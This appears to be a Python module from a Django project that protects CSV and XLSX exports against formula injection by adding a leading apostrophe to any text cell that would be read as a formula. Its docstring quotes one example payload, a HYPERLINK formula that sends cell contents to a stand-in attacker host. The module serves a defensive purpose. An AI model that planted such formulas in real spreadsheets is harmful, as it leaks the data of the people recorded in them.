"""Every cell a spreadsheet opens is neutralised here, once.

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice or Google Sheets as a formula (OWASP "CSV injection"):
an applicant's title ``==HYPERLINK("https://evil.example/?"&F3, "Open")`` would
become a live link in a staff member's XLSX. Such a text is written with a leading
apostrophe, which spreadsheets show as text; numbers, dates and booleans are not
text and pass unchanged. django-import-export's own escaping removes one leading
``=`` only, so its CSV and XLSX formats are replaced by ``CSV`` and ``XLSX`` below.
"""

from import_export.formats import base_formats

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value):
    """``value`` as a spreadsheet must receive it: a text read as a formula gets a
    leading apostrophe; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_dataset(dataset):
    """Neutralise every cell of a tablib ``dataset`` in place (the headers are ours)."""
    for _row in range(len(dataset)):
        dataset.append([neutralise_cell(cell) for cell in dataset.lpop()])


class _Neutralised:
    # Called by django-import-export before writing (IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT),
    # inside the XLSX format's handling of characters XLSX refuses.
    def _escape_formulae(self, dataset):
        neutralise_dataset(dataset)


class CSV(_Neutralised, base_formats.CSV):
    """CSV with every cell neutralised."""


class XLSX(_Neutralised, base_formats.XLSX):
    """XLSX with every cell neutralised (and no cell stored as a formula)."""
